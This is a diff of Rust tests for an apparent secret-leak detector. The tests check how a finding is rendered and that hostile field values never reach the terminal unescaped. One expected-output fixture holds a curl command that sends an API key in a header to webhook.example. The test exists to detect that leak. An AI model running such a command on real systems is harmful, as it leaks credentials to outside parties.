@@ -25,7 +25,7 @@ fn a_finding_tells_the_whole_story() {
 \x20CRITICAL  Anthropic API key left this machine  2026-03-01 12:00:00 UTC on web-1
   key       sk-ant-api…(108)  fingerprint 000000000000
   rule      anthropic-api-key
-  to        webhook.example (192.0.2.7:443, name from sni)
+  to        webhook.example (webhook-catcher, 192.0.2.7:443, name from sni)
   where     header:x-api-key over TLS (http/1.1, openssl)
   process   curl (pid 4242, uid 1000)  /usr/bin/curl
   command   curl https://webhook.example/ 'x-api-key: sk-ant-api…(108)'
@@ -78,8 +78,12 @@ fn no_field_reaches_the_terminal_as_it_is() {
         unit: Some(evil()),
         ancestors: vec![crate::record::Ancestor { pid: 1, comm: evil() }],
     };
-    let destination =
-        || Destination { host: Some(evil()), host_source: Some(evil()), ..Destination::default() };
+    let destination = || Destination {
+        host: Some(evil()),
+        host_source: Some(evil()),
+        category: Some(evil()),
+        ..Destination::default()
+    };
     let mut finding = finding();
     finding.rule = crate::record::RuleRef { id: evil(), name: evil(), severity: evil() };
     finding.secret.redacted = evil();
@@ -88,6 +92,7 @@ fn no_field_reaches_the_terminal_as_it_is() {
     finding.channel.library = Some(evil());
     finding.channel.protocol = Some(evil());
     finding.enforcement = Some(evil());
+    finding.policy = Some(evil());
     (finding.explanation, finding.remediation) = (evil(), evil());
     (finding.process, finding.destination) = (process(), destination());
     let ready = Ready {
